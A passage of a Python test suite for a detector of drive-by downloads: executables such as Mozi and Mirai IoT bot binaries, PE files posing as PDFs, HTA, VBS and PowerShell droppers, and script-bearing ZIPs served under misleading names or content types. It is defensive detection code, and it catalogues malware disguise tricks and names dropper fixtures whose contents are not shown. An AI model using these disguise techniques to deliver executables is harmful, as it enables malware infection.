        pytest.param("/get", "attachment; filename*=UTF-8''a.exe; filename=b.exe", ("a.exe", True),
                     id="ext-over-plain"),
        pytest.param("/get", "attachment; filename=%FF.exe", ("get", True), id="percent-not-utf8"),
        pytest.param("/get", ";;;===\"\"", ("get", False), id="garbage"),
        pytest.param("/get", "", ("get", False), id="empty-header"),
        pytest.param("/get", "attachment; filename=\"\x00\x07.exe\"", (".exe", True),
                     id="control-characters"),
    ],
)
def test_filename_from(url_path: str, disposition: str | None, expected: tuple[str | None, bool]) -> None:
    assert filename_from(url_path, disposition) == expected


RFC_TOKEN = re.compile(r"[!#$%&'*+.^_`|~0-9A-Za-z-]+")  # RFC 9110 5.6.2


def test_filename_from_never_raises() -> None:
    rng = random.Random(6266)
    alphabet = "aZ09 ;=\"'*%\\/.-_\t€\u00e9\ud800\x00?=BQ"
    for _ in range(2000):
        header = "".join(rng.choice(alphabet) for _ in range(rng.randrange(40)))
        prefix = rng.choice(("", "attachment; filename=", "inline; filename*=",
                             "attachment; filename*=UTF-8''"))
        name, attachment = filename_from("/" + header, prefix + header)
        # A name a browser can save under: one path component, no control characters, no trailing dots.
        if name is not None:
            assert name == name.strip() and not name.endswith(".")
            assert "/" not in name and "\\" not in name
            assert not any(char < " " or char == "\x7f" for char in name)
        # RFC 6266 4.2: any disposition type but "inline" is an attachment; a malformed one is not a type.
        disposition_type = (prefix + header).split(";", 1)[0].strip()
        assert attachment == (RFC_TOKEN.fullmatch(disposition_type) is not None
                              and disposition_type.lower() != "inline")


# --- find_drive_by ------------------------------------------------------------------------------

type Headers = list[tuple[str, str]]
ATTACH = ("Content-Disposition", "attachment")


def ctype(value: str) -> tuple[str, str]:
    return ("Content-Type", value)


@pytest.mark.parametrize(
    ("url_path", "headers", "head", "evidence", "kind"),
    [
        # IoT bots
        pytest.param("/Mozi.m", [ctype("text/html")], elf(1, MSB, EM_MIPS),
                     ("content", "bot-name", "type-mismatch"), "elf", id="mozi-elf-as-html"),
        pytest.param("/bins/mirai.arm7", [ctype("application/octet-stream")], elf(1, LSB, EM_ARM),
                     ("content", "bot-name"), "elf", id="mirai-bins"),
        pytest.param("/i", [ctype("application/zip")], elf(1, MSB, EM_MIPS), ("content", "type-mismatch"),
                     "elf", id="elf-declared-zip"),
        pytest.param("/dvr", [], elf(1, LSB, EM_ARM), ("content",), "elf", id="elf-no-type-no-name"),
        pytest.param("/bins.sh", [ctype("text/plain")], GAFGYT_BINS_SH, ("content", "extension"), "shell",
                     id="gafgyt-bins-sh"),
        pytest.param("/i", [ctype("text/html")], MOZI_NETGEAR, ("content", "type-mismatch"), "shell",
                     id="dropper-as-html"),
        pytest.param("/Mozi.m", [ctype("text/html")], b"", ("bot-name",), None, id="bot-name-head-request"),
        pytest.param("/Mozi.a", [], bytes(range(256)) * 4, ("bot-name",), None, id="bot-name-unknown-bytes"),
        # Windows
        pytest.param("/download.php", [ctype("application/octet-stream"),
                                       ("Content-Disposition", 'attachment; filename="setup.exe"')],
                     pe(0x8664, 0x20B), ("content", "disposition", "extension"), "pe", id="pe-attachment"),
        pytest.param("/files/invoice.pdf", [ctype("application/pdf")], pe(0x14C, 0x10B),
                     ("content", "type-mismatch"), "pe", id="pe-as-pdf"),
        pytest.param("/dl/setup.exe", [ctype("application/x-msdownload")], b"", ("extension",), None,
                     id="exe-head-request"),
        pytest.param("/dl/setup.exe", [ctype("application/octet-stream")], bytes(range(256)) * 4,
                     ("extension",),
                     None, id="exe-unknown-bytes"),
        pytest.param("/a.lnk", [ctype("application/octet-stream")], LNK, ("content", "extension"), "lnk",
                     id="lnk"),
        pytest.param("/setup.msi", [ctype("application/x-msi")], ole(MSI_CLSID), ("content", "extension"),
                     "msi", id="msi"),
        pytest.param("/x.ps1", [ctype("text/plain")], POWERSHELL_CRADLE, ("content", "extension"),
                     "powershell", id="powershell"),
        pytest.param("/update.hta", [ctype("application/hta")], b"<html><HTA:APPLICATION id=x></html>",
                     ("extension",), None, id="hta-download-type"),
        # scripts delivered as downloads
        pytest.param("/static/app.js", [ctype("application/javascript"), ATTACH], JS_SOURCE,
                     ("disposition", "extension"), None, id="js-attachment"),
        pytest.param("/static/app.js", [ctype("application/octet-stream")], JS_SOURCE, ("extension",), None,
                     id="js-as-octet-stream"),
        pytest.param("/inv.vbs",
                     [ctype("text/vbscript"), ("Content-Disposition", "attachment; filename=inv.vbs")],
                     b"Set s = CreateObject(\"WScript.Shell\")\r\n", ("disposition", "extension"), None,
                     id="vbs-attachment"),
        # archives and documents in disguise
        pytest.param("/invoice.zip", [ctype("application/zip")], zip_bytes([("invoice_0412.js", JS_SOURCE)]),
                     ("content",), "zip", id="zip-holding-js"),
        pytest.param("/report.zip", [ctype("text/plain")], zip_bytes([("a.txt", b"a")]), ("type-mismatch",),
                     "zip", id="zip-as-text"),
        pytest.param("/get",
                     [ctype("application/pdf"), ("Content-Disposition", "attachment; filename=scan.pdf")],
                     zip_bytes([("scan.img", b"x")]), ("content", "disposition", "type-mismatch"), "zip",
                     id="zip-named-pdf-holding-img"),
        pytest.param("/doc", [ctype("text/html")], zip_bytes(OOXML_ENTRIES), ("type-mismatch",), "zip",
                     id="docx-as-html"),
        pytest.param("/app.apk", [ctype("application/vnd.android.package-archive")],
                     zip_bytes([("AndroidManifest.xml", AXML), ("classes.dex", DEX)]), ("content",
                                                                                        "extension"),
                     "apk", id="apk"),
        pytest.param("/tool.jar", [ctype("application/java-archive")],
                     zip_bytes([("META-INF/MANIFEST.MF", MANIFEST), ("app/Main.class", CLASS_FILE)]),
                     ("content", "extension"), "jar", id="jar"),
        pytest.param("/install.sh", [ctype("text/plain")], b"#!/bin/sh\necho installing\n",
                     ("content", "extension"), "shell", id="plain-shell-script-runs"),
    ],
)
def test_find_drive_by(url_path: str, headers: Headers, head: bytes, evidence: tuple[str, ...],
                       kind: str | None) -> None:
    found = find_drive_by(url_path=url_path, headers=headers, head=head)
    assert isinstance(found, DriveBy)
    assert found.evidence == evidence
    assert (found.payload.kind if found.payload else None) == kind
    assert found.detail


@pytest.mark.parametrize(
    ("url_path", "headers", "head"),
    [
        pytest.param("/dl/setup.exe", [ctype("text/html; charset=utf-8")], HTML_404, id="exe-url-html-404"),
        pytest.param("/Mozi.m", [ctype("text/html")], HTML_404, id="bot-name-html-404"),
        pytest.param("/dl/setup.exe", [ctype("image/png")], PNG, id="exe-url-serving-png"),
        pytest.param("/static/app.js", [ctype("application/javascript")], JS_SOURCE, id="js-resource"),
        pytest.param("/static/app.js", [ctype("text/javascript")], b"", id="js-resource-head-request"),
        pytest.param("/static/app.js", [], JS_SOURCE, id="js-without-type"),
        pytest.param("/x.vbs", [ctype("text/plain")], b"MsgBox \"hi\"\r\n", id="vbs-shown-as-text"),
        pytest.param("/feed.xml", [ctype("application/rss+xml")], b"<?xml version=\"1.0\"?><rss/>",
                     id="rss-feed"),
        pytest.param("/default.asp", [ctype("text/html")], HTML_PAGE, id="asp-page"),
        pytest.param("/", [ctype("text/html")], HTML_PAGE, id="html-page"),
        pytest.param("/logo.png", [ctype("image/png")], PNG, id="png"),
        pytest.param("/photo.jpg", [ctype("image/jpeg")], JPEG, id="jpeg"),
        pytest.param("/anim.gif", [ctype("image/gif")], GIF, id="gif"),
        pytest.param("/img.webp", [ctype("image/webp")], WEBP, id="webp"),
        pytest.param("/manual.pdf", [ctype("application/pdf"), ATTACH], PDF, id="pdf-attachment"),
        pytest.param("/backup.tar.gz", [ctype("application/gzip"), ATTACH], GZIP_TEXT, id="tar-gz"),
        pytest.param("/api/items", [ctype("application/json")], JSON_BODY, id="json"),
        pytest.param("/notes.txt", [ctype("text/plain")], PLAIN_TEXT, id="plain-text"),
        pytest.param("/site.css", [ctype("text/css")], CSS, id="css"),
        pytest.param("/fonts/a.woff2", [ctype("font/woff2")], WOFF2, id="font"),
        pytest.param("/v.mp4", [ctype("video/mp4")], MP4, id="mp4"),
        pytest.param("/archive/refs/heads/main.zip",
                     [ctype("application/zip"),
                      ("Content-Disposition", "attachment; filename=project-main.zip")],
                     zip_bytes([("project-main/", b""),
                                ("project-main/index.js", JS_SOURCE)]), id="github-zip"),
        pytest.param("/report.docx",
                     [ctype("application/vnd.openxmlformats-officedocument.wordprocessingml.document")],
                     zip_bytes(OOXML_ENTRIES), id="docx-as-itself"),
        pytest.param("/old.doc", [ctype("application/msword"), ATTACH], ole(WORD_CLSID), id="doc-attachment"),
        pytest.param("/dl/", [ctype("application/octet-stream")], b"", id="no-name-no-bytes"),
        pytest.param("/api", [], b"", id="nothing-at-all"),
    ],
)
def test_find_drive_by_leaves_ordinary_responses_alone(url_path: str, headers: Headers, head: bytes) -> None:
    assert find_drive_by(url_path=url_path, headers=headers, head=head) is None


def test_mozi_drive_by_in_full() -> None:
    found = find_drive_by(url_path="/Mozi.m", headers=[("content-type", "Text/HTML; charset=UTF-8")],
                          head=elf(1, MSB, EM_MIPS))
    assert found == DriveBy(
        payload=Payload("elf", "ELF 32-bit MIPS big-endian executable", True, "mips"),
        filename="Mozi.m",
        evidence=("content", "bot-name", "type-mismatch"),
        declared_type="text/html",
        detail="an ELF 32-bit MIPS big-endian executable (Mozi.m) served as text/html",
    )


@pytest.mark.parametrize(
    ("headers", "detail"),
    [
        pytest.param([ctype("application/octet-stream")],
                     "a file named setup.exe (.exe: a file type that runs code) "
                     "served as application/octet-stream", id="extension"),
        pytest.param([("Content-Disposition", "attachment; filename=evil.hta")],
                     "a file named evil.hta (.hta: a file type browsers refuse to open) "
                     "sent as a download (no content type)", id="dangerous-attachment"),
        pytest.param([],
                     "a file named setup.exe (.exe: a file type that runs code) "
                     "served without a content type", id="no-type"),
    ],
)
def test_detail_for_names(headers: Headers, detail: str) -> None:
    found = find_drive_by(url_path="/dl/setup.exe", headers=headers, head=b"")
    assert found is not None
    assert found.detail == detail


def test_find_drive_by_header_handling() -> None:
    found = find_drive_by(
        url_path="/x",
        headers=[("CONTENT-TYPE", "text/plain"), ("Content-Type", "Application/Octet-Stream ; x=1"),
                 ("content-disposition", "attachment; filename=a.exe"), ("Content-Disposition", "inline")],
        head=b"",
    )
    assert found is not None
    assert (found.declared_type, found.filename, found.evidence) == (
        "application/octet-stream", "a.exe", ("disposition", "extension"),
    )
    bogus = find_drive_by(url_path="/a.exe", headers=[ctype("nonsense")], head=b"")
    assert bogus is not None and bogus.declared_type is None


EVIDENCE_ORDER = ("content", "disposition", "extension", "bot-name", "type-mismatch")
DECLARED_TYPES = {"text/html": "text/html", "": None, ";": None, "application/zip": "application/zip",
                  "image/png": "image/png", "\x00/\x00": None}


def test_find_drive_by_never_raises() -> None:
    rng = random.Random(8080)
    names = ["/Mozi.m", "/a.exe", "/x.js", "/", "/%ff%fe.sh", "/i"]
    types = ["text/html", "", ";", "application/zip", "image/png", "\x00/\x00"]
    for _ in range(500):
        head = rng.choice([*SEEDS, b"", HTML_404, PNG])[: rng.randrange(0, 5000)]
        headers = [ctype(rng.choice(types)),
                   ("Content-Disposition", rng.choice(["", "attachment", ";=\"", "x"]))]
        url_path = rng.choice(names)
        found = find_drive_by(url_path=url_path, headers=headers, head=head)
        payload = sniff(head)
        if payload is not None and payload.executable:
            assert found is not None and "content" in found.evidence
        if found is None:
            continue
        filename, attachment = filename_from(url_path, headers[1][1])
        assert (found.payload, found.filename) == (payload, filename)
        assert found.declared_type == DECLARED_TYPES[headers[0][1]]
        assert list(found.evidence) == [code for code in EVIDENCE_ORDER if code in found.evidence]
        # An attachment is evidence next to something else, never alone.
        assert ("disposition" in found.evidence) == attachment and set(found.evidence) != {"disposition"}
        assert "extension" not in found.evidence or dangerous_extension(filename or "") is not None
        assert "bot-name" not in found.evidence or bot_binary_name(filename or "")
        assert found.detail
